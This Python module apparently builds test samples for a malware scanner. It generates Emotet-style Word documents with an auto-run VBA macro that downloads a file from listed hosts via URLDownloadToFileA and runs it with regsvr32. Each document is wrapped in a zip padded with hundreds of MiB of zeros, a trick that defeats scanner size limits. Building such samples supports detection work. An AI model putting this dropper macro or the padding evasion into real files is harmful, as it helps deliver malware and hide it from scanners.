"""The document of 2023-03 that is blown up to half a gigabyte by zeros, in a zip of half a megabyte."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator
from random import Random

from support.carriers.sample import EMOTET, Sample
from support.carriers.word import binary, file_name
from support.carriers.word_macros import Macro
from support.document_decoys import name
from support.draws import letters
from support.dropper_draws import HOSTS
from support.office.vba_writer import Source

_MIB = 1 << 20
_PROSE = "Call me Ishmael. Some years ago, never mind how long precisely, I thought I would sail about a little. "


def document(draw: Random) -> bytes:
    """The document without its filling: a macro with a list of addresses, each with six digits behind it."""
    urls = [f"http://{host}/{letters(draw, 4, 8)}/{letters(draw, 6, 12)}9X/?{draw.randint(100000, 999999)}&c={draw.randint(1, 9)}"
            for host in HOSTS[: draw.randint(3, 5)]]  # fmt: skip
    main, own = name(draw), draw.choice(("ThisDocument", name(draw)))
    tried = "".join(f'If {main}Get("{url}", f) Then GoTo Done\n' for url in urls)
    code = (
        'Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal a As LongPtr, ByVal b As String, '
        "ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\n"
        f'Sub {main}()\nf = Environ("TEMP") & "\\{draw.randint(100000, 235959)}.zip"\n{tried}Done:\n'
        f'CreateObject("Shell.Application").Namespace(g).CopyHere h\nShell "regsvr32 /s " & """" & h & """"\nEnd Sub\n'
    )
    modules = (Source(own, f"Sub AutoOpen()\n{main}\nEnd Sub\n", "document"), Source(letters(draw, 5, 9), code))
    return binary(draw, Macro(modules, text=_PROSE * draw.randint(5, 40)), {"author": "Example"})


def blocks(data: bytes, zeros: int, filling: bytes = b"\0") -> Iterator[tuple[bytes, int]]:
    """Deflated pieces of *data* and of *zeros* MiB of *filling*, and the checksum of the whole with the last of them."""
    mib = filling * _MIB
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc = zlib.crc32(data)
    yield packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH), crc
    # A piece of zeros packed once fits behind itself: nothing in it points back before its own beginning.
    again = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = again.compress(mib) + again.flush(zlib.Z_FULL_FLUSH)
    for _ in range(zeros):
        crc = zlib.crc32(mib, crc)
        yield piece, crc
    yield again.flush(), crc


def in_zip(member: str, data: bytes, zeros: int, filling: bytes = b"\0") -> bytes:
    """A zip of *data* with so many MiB of *filling* behind it, which are never held."""
    body, crc = b"", 0
    for piece, crc in blocks(data, zeros, filling):  # noqa: B007  # the last one is that of the whole
        body += piece
    size, raw = len(data) + (zeros << 20), member.encode()
    words = (20, 0x800, 8, 0, 0x5667, crc, len(body), size, len(raw), 0)
    head = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", *words) + raw
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, *words, 0, 0, 0, 0, 0) + raw
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1, len(entry), len(head) + len(body), 0)
    return head + body + entry + end


def sample(draw: Random, zeros: int) -> Sample:
    """With *zeros* MiB of filling."""
    member = f"{draw.choice(('Invoice', 'Scan', 'Report'))}_{letters(draw, 4, 6)}.doc"
    data = in_zip(member, document(draw), zeros, draw.choice((b"\0", b"\0", b" ", b"\xff")))
    return Sample(file_name(draw, "zip"), data, EMOTET, ("padded-document",), (member,))


def small(draw: Random) -> Sample:
    """Cut down to what a test may take: the same in 50 to 60 MiB."""
    return sample(draw, draw.randint(50, 60))


def whole(draw: Random) -> Sample:
    """As large as it was: 550 MiB."""
    return sample(draw, 550)
